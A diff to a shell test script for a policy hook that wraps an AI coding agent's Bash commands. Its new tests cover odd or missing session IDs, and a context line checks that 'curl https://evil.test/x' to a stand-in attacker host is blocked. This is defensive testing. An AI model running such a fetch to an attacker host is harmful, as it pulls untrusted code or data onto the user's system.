@@ -74,6 +74,16 @@ expect_match "the session is named from session_id, the workspace is cwd" \
 	"'--session' 'hook-$SID' '--workspace' '$ws' '--' 'bash' '-c' 'echo hi'\$" \
 	"$(field 'a["hookSpecificOutput"]["updatedInput"]["command"]')"
 
+# A session_id that is not a session name: its digest, under another prefix.
+long="odd id/with spaces and a very long tail $(printf 'x%.0s' $(seq 60))"
+OUT=$(ev "$long" 'ls' | "$HALO" hook --wrap --harness claude-code --policy "$pol" 2>&1)
+expect_match "an odd session_id: hookx- and 40 hex digits of its SHA-256" \
+	"'--session' 'hookx-$(printf %s "$long" | sha256sum | cut -c1-40)'" "$OUT"
+OUT=$(python3 -c 'import json; print(json.dumps({"cwd":"/tmp","hook_event_name":"PreToolUse",
+	"tool_name":"Bash","tool_input":{"command":"ls"}}))' |
+	"$HALO" hook --wrap --harness claude-code --policy "$pol" 2>&1)
+expect_match "no session_id: blocked, never run unwrapped" '^halo-run: blocked \(cannot wrap\): .*session_id' "$OUT"
+
 answer 'curl https://evil.test/x'
 expect "a blocked call is still blocked (exit 2, no answer)" "2:" "$RC:$OUT"
 expect_match "its reason" '^halo-run: blocked: curl -> evil.test' "$ERR"
